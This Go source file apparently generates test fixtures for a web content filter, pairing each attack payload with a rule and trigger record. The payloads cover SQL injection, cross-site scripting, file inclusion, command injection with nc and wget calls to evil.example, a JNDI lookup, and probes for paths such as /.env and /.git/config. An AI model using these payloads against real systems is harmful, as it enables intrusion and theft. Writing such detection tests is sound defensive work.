package gen

import (
	"slices"
	"strconv"
)

// payloadCategories maps the categories of payloads to the names of their triggers.
var payloadCategories = map[string]string{
	"sqli":  "SQL injection",
	"xss":   "Cross-site scripting",
	"lfi":   "File inclusion",
	"rce":   "Command injection",
	"probe": "Probing",
}

// payloads lists the payloads of the scan, by category. The content filter has a rule for each.
var payloads = makePayloads(payloadCategories,
	[]payload{
		{category: "sqli", section: "args", name: "id", value: "7' OR '1'='1"},
		{category: "sqli", section: "args", name: "id", value: "1 AND 4021=4021-- -"},
		{
			category: "sqli", section: "args", name: "item",
			value: "-3 UNION ALL SELECT NULL,CONCAT(user(),0x3a,version()),NULL#",
		},
		{category: "sqli", section: "args", name: "sort", value: "(SELECT 1 FROM (SELECT SLEEP(5))x)"},
		{category: "sqli", section: "args", name: "user", value: "admin'/*"},
		{category: "sqli", section: "args", name: "q", value: `"; DROP TABLE orders; --`},
		{category: "sqli", section: "args", name: "cat", value: "2;WAITFOR DELAY '0:0:5'--"},
		{
			category: "sqli", section: "args", name: "q",
			value: "x' AND extractvalue(1,concat(0x7e,(SELECT database())))-- ",
		},
		{category: "sqli", section: "args", name: "order", value: "1 ORDER BY 27--"},
		{category: "sqli", section: "headers", name: "x-forwarded-for", value: "127.0.0.1' OR 1=1-- "},
		{category: "sqli", section: "cookies", name: "lang", value: "en' AND '7'='7"},
		{category: "xss", section: "args", name: "q", value: "<script>alert(document.domain)</script>"},
		{category: "xss", section: "args", name: "name", value: `"><img src=x onerror=alert(1)>`},
		{category: "xss", section: "args", name: "comment", value: "<svg/onload=confirm`7`>"},
		{category: "xss", section: "args", name: "next", value: "javascript:eval(atob('YWxlcnQoMSk='))"},
		{category: "xss", section: "args", name: "q", value: "';alert(String.fromCharCode(88,83,83))//"},
		{category: "xss", section: "headers", name: "referer", value: "https://evil.example/\"><script>1</script>"},
		{category: "lfi", section: "args", name: "file", value: "../../../../etc/passwd"},
		{category: "lfi", section: "args", name: "page", value: "....//....//....//windows/win.ini"},
		{
			category: "lfi", section: "args", name: "template",
			value: "php://filter/convert.base64-encode/resource=index",
		},
		{category: "lfi", section: "args", name: "include", value: "http://evil.example/shell.txt?"},
		{category: "rce", section: "args", name: "cmd", value: ";cat /etc/hosts|nc evil.example 4444"},
		{category: "rce", section: "args", name: "host", value: "127.0.0.1 && id"},
		{category: "rce", section: "args", name: "name", value: "${jndi:ldap://evil.example/a}"},
		{category: "rce", section: "args", name: "q", value: "{{7*'7'}}"},
		{
			category: "rce", section: "headers", name: "user-agent",
			value: "() { :;}; /bin/bash -c \"wget evil.example/x\"",
		},
		{category: "probe", section: "path", name: "path", value: "/.env"},
		{category: "probe", section: "path", name: "path", value: "/wp-login.php"},
		{category: "probe", section: "path", name: "path", value: "/.git/config"},
		{category: "probe", section: "path", name: "path", value: "/phpmyadmin/index.php"},
		{category: "probe", section: "path", name: "path", value: "/cgi-bin/%2e%2e/%2e%2e/bin/sh"},
		{category: "probe", section: "path", name: "path", value: "/actuator/heapdump"},
		{category: "probe", section: "path", name: "path", value: "/backup.sql.gz"},
	})

// firstProbe is the index of the first payload that is a path. All later ones are.
var firstProbe = slices.IndexFunc(payloads, func(p payload) bool { return p.path != nil })

// makePayloads sets the fields of the payloads that follow from the others: encodings, paths, and the rule that finds
// the payload.
func makePayloads(categories map[string]string, list []payload) []payload {
	for i := range list {
		p := &list[i]
		p.encoded = escapeQuery(p.value)
		if p.section == "path" {
			p.path = newPath(p.value)
		}
		id, risk := strconv.Itoa(100_000+i*37), 3+i%3
		tags := `["cf-rule-category:` + p.category + `","cf-rule-risk:` + strconv.Itoa(risk) + `"]`
		p.rule = rule{
			id: id, by: byContentFilter, stage: stageContent, status: 403 + 69*(i%2), // 403 and 472
			reason: "content filter " + tags + " - cf1 " + id + " - [" + p.section + "]",
			tag:    "cf-rule-id:" + id,
		}
		b := appendMember([]byte(`{"action":"custom","extra":"",`), "name", p.name)
		b = append(b, `,"risk_level":`+strconv.Itoa(risk)+`,"ruleid":"`+id+`","section":"`+p.section+`",`...)
		b = append(appendMember(append(b, `"trigger_id":"cf1",`...), "trigger_name", categories[p.category]), ',')
		p.rule.trigger = string(append(appendMember(b, "value", p.value), '}'))
	}
	return list
}
